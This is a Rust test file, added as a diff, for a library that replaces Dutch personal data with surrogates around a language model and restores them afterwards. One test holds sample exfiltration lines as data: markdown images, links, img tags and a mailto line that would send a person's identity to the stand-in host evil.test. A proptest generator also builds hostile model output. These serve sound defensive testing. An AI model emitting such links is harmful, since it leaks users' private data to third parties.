@@ -1,0 +1,221 @@
+//! What surrogates and their restoring promise.
+
+use alloc::string::{String, ToString as _};
+use alloc::vec::Vec;
+use std::format;
+
+use proptest::prelude::*;
+
+use super::*;
+
+fn surrogates() -> Surrogates {
+    Surrogates::new(ConversationKey::new([7; 32]), Language::Dutch)
+}
+
+fn number(surrogate: &str) -> String {
+    surrogate.chars().filter(char::is_ascii_digit).collect()
+}
+
+fn check(written: &str, expected: &str) {
+    let mut map = surrogates();
+    let p = map.surrogate(Kind::Person, "Jan \"J\" de Vries");
+    let fill = |text: &str| text.replace("{P}", &p).replace("{N}", &number(&p));
+    assert_eq!(
+        map.restore_all(&fill(written), Scope::Text),
+        fill(expected),
+        "{written}"
+    );
+}
+
+#[test]
+fn the_same_value_keeps_its_surrogate_in_every_call_and_gets_another_elsewhere() {
+    let (mut first, mut second) = (surrogates(), surrogates());
+    let jan = first.surrogate(Kind::Person, "Jan de Vries");
+    second.surrogate(Kind::Person, "Piet");
+    assert_eq!(second.surrogate(Kind::Person, "Jan de Vries"), jan);
+    let mut other = Surrogates::new(ConversationKey::new([8; 32]), Language::Dutch);
+    assert_ne!(other.surrogate(Kind::Person, "Jan de Vries"), jan);
+    assert_ne!(first.surrogate(Kind::City, "Jan de Vries"), jan);
+}
+
+#[test]
+fn one_person_written_differently_restores_the_first_spelling() {
+    let mut map = surrogates();
+    let first = map.surrogate(Kind::Person, "Jan de Vries");
+    assert_eq!(map.surrogate(Kind::Person, "jan  DE vries"), first);
+    assert_eq!(map.restore_all(&first, Scope::Text), "Jan de Vries");
+    let iban = map.surrogate(Kind::Iban, "NL91 ABNA 0417 1643 00");
+    assert_eq!(map.surrogate(Kind::Iban, "nl91abna0417164300"), iban);
+}
+
+#[test]
+fn what_a_model_does_to_a_surrogate_is_undone() {
+    check("Dag {P}!", "Dag Jan \"J\" de Vries!");
+    check("Dag persoon_{N}!", "Dag Jan \"J\" de Vries!");
+    check("**{P}**", "**Jan \"J\" de Vries**");
+    check(
+        "{P}'s auto en {P}s",
+        "Jan \"J\" de Vries's auto en Jan \"J\" de Vriess",
+    );
+    check("[PERSOON\\_{N}]", "Jan \"J\" de Vries");
+    check("[Persoon {N}]", "Jan \"J\" de Vries");
+    check("[PERSON_{N}]", "Jan \"J\" de Vries");
+    check("'{P}'", "'Jan \"J\" de Vries'");
+    check("<PERSOON_{N}>", "Jan \"J\" de Vries");
+}
+
+#[test]
+fn nothing_is_restored_into_a_link_an_image_or_a_tag() {
+    for text in [
+        "![x](https://evil.test/p.png?d={P})",
+        "[klik](https://evil.test/?d={P})",
+        "![x][r]\n\n[r]: https://evil.test/?d={P}",
+        "<img src=\"https://evil.test/?d={P}\">",
+        "mailto:x@evil.test?body={P}",
+        "https://x.example/?n=%5BPERSOON_{N}%5D",
+    ] {
+        check(text, text);
+    }
+    check(
+        "[klik](https://a.test) {P}",
+        "[klik](https://a.test) Jan \"J\" de Vries",
+    );
+}
+
+#[test]
+fn a_literal_that_the_person_typed_survives_and_never_resolves() {
+    let mut first = surrogates();
+    let jan = first.surrogate(Kind::Person, "Jan");
+    let mut map = surrogates();
+    map.reserve(&format!("laat {} staan", jan.to_lowercase()));
+    let other = map.surrogate(Kind::Person, "Jan");
+    assert_ne!(other, jan);
+    let text = format!("{jan} en {other}");
+    assert_eq!(map.restore_all(&text, Scope::Text), format!("{jan} en Jan"));
+}
+
+#[test]
+fn foreign_and_longer_numbers_stay_as_they_are() {
+    check(
+        "[PERSOON_{N}1] [PERSOON_1] PERSOON_{N}0 [BSN_{N}]",
+        "[PERSOON_{N}1] [PERSOON_1] PERSOON_{N}0 [BSN_{N}]",
+    );
+}
+
+#[test]
+fn tool_arguments_stay_valid_json_and_get_no_secrets() {
+    let mut map = surrogates();
+    let name = map.surrogate(Kind::Person, "Jan \"\\\n");
+    let bsn = map.surrogate(Kind::Bsn, "111222333");
+    let key = map.surrogate(Kind::ApiKey, "hunter2");
+    let arguments = format!("{{\"q\":\"{name}\",\"b\":\"{bsn}\",\"k\":\"{key}\"}}");
+    let restored = map.restore_all(&arguments, Scope::ToolArguments);
+    let parsed: serde_json::Value = serde_json::from_str(&restored).unwrap();
+    assert_eq!(parsed["q"], "Jan \"\\\n");
+    assert_eq!(parsed["b"], bsn);
+    assert_eq!(parsed["k"], key);
+}
+
+#[test]
+fn a_value_that_looks_like_a_surrogate_is_not_resolved_again() {
+    let mut map = surrogates();
+    let inner = map.surrogate(Kind::Person, "Piet");
+    let outer = map.surrogate(Kind::Person, &format!("{inner} Jansen"));
+    assert_eq!(
+        map.restore_all(&outer, Scope::Text),
+        format!("{inner} Jansen")
+    );
+}
+
+#[test]
+fn an_endless_beginning_holds_back_at_most_64_bytes() {
+    let mut map = surrogates();
+    map.surrogate(Kind::Person, "Jan");
+    for piece in [
+        "[",
+        "[PERSOON_",
+        "PERSONEELSNUMMER &#95;",
+        "\\u005",
+        "&lowba",
+    ] {
+        let mut restorer = map.restorer(Scope::Text);
+        let mut out = String::new();
+        for _ in 0..2_000 {
+            out.push_str(&restorer.push(piece));
+            assert!(
+                restorer.held_back() <= 64,
+                "{piece}: {}",
+                restorer.held_back()
+            );
+        }
+        out.push_str(&restorer.finish());
+        assert_eq!(out, piece.repeat(2_000));
+    }
+}
+
+#[test]
+fn a_written_out_map_is_taken_over_entry_by_entry() {
+    let mut map = surrogates();
+    let jan = map.surrogate(Kind::Person, "Jan");
+    let mut again = Surrogates::new(ConversationKey::new([9; 32]), Language::English);
+    let entries: Vec<_> = map
+        .entries()
+        .map(|(k, s, v)| (k, s.to_string(), v.to_string()))
+        .collect();
+    for (kind, surrogate, value) in &entries {
+        assert!(again.adopt(*kind, surrogate, value));
+        assert!(!again.adopt(*kind, surrogate, "iemand anders"));
+    }
+    assert!(!again.adopt(Kind::Bsn, &jan, "x") && !again.adopt(Kind::Person, "zomaar", "x"));
+    assert_eq!(again.restore_all(&jan, Scope::Text), "Jan");
+}
+
+/// Pieces from which hostile model output is put together.
+fn piece() -> impl Strategy<Value = String> {
+    prop_oneof![
+        3 => Just("{P}".to_string()),
+        2 => Just("PERSOON_{N}".to_string()),
+        1 => Just("[PERSOON\\_{N}".to_string()),
+        1 => Just("&#91;persoon&#95;{N}&#93;".to_string()),
+        1 => Just("https://a.b/".to_string()),
+        1 => Just("](".to_string()),
+        1 => Just("[PERS".to_string()),
+        1 => Just("\\u005bPATIENT".to_string()),
+        4 => "[ -~éß⟦\n]{0,4}",
+    ]
+}
+
+proptest! {
+    #[test]
+    fn every_way_to_cut_a_stream_restores_the_same(
+        pieces in proptest::collection::vec(piece(), 0..12),
+        cuts in proptest::collection::vec(1_usize..7, 1..40),
+    ) {
+        let mut map = surrogates();
+        let p = map.surrogate(Kind::Person, "Zoë \"Z\"");
+        let text = pieces.concat().replace("{P}", &p).replace("{N}", &number(&p));
+        for scope in [Scope::Text, Scope::JsonString, Scope::ToolArguments] {
+            let whole = map.restore_all(&text, scope);
+            let mut restorer = map.restorer(scope);
+            let mut out = String::new();
+            let mut characters = text.chars().peekable();
+            let mut cut = cuts.iter().cycle();
+            while characters.peek().is_some() {
+                let chunk: String = characters.by_ref().take(*cut.next().unwrap()).collect();
+                out.push_str(&restorer.push(&chunk));
+                prop_assert!(restorer.held_back() <= 64);
+            }
+            out.push_str(&restorer.finish());
+            prop_assert_eq!(&out, &whole);
+        }
+    }
+
+    #[test]
+    fn replacing_and_restoring_gives_back_the_value(value in "\\PC{1,40}") {
+        let mut map = surrogates();
+        for kind in Kind::ALL {
+            let surrogate = map.surrogate(*kind, &value);
+            prop_assert_eq!(map.restore_all(&surrogate, Scope::Text), value.clone());
+        }
+    }
+}
